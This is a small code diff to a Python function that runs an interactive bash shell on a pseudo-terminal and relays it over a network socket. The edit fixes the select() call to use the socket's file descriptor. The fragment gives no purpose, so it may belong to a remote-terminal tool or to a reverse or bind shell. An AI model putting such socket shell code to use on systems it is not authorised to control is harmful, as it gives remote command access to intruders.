@@ -93,10 +93,10 @@ def shell(conn: socket.socket) -> None:
         os.execv('/bin/bash', ['bash', '-i'])
     try:
         while True:
-            ready, _w, _x = select.select([conn, terminal], [], [])
+            ready, _w, _x = select.select([conn.fileno(), terminal], [], [])
             if terminal in ready:
                 conn.sendall(os.read(terminal, 65536))
-            if conn in ready:
+            if conn.fileno() in ready:
                 data = conn.recv(65536)
                 if not data:
                     break
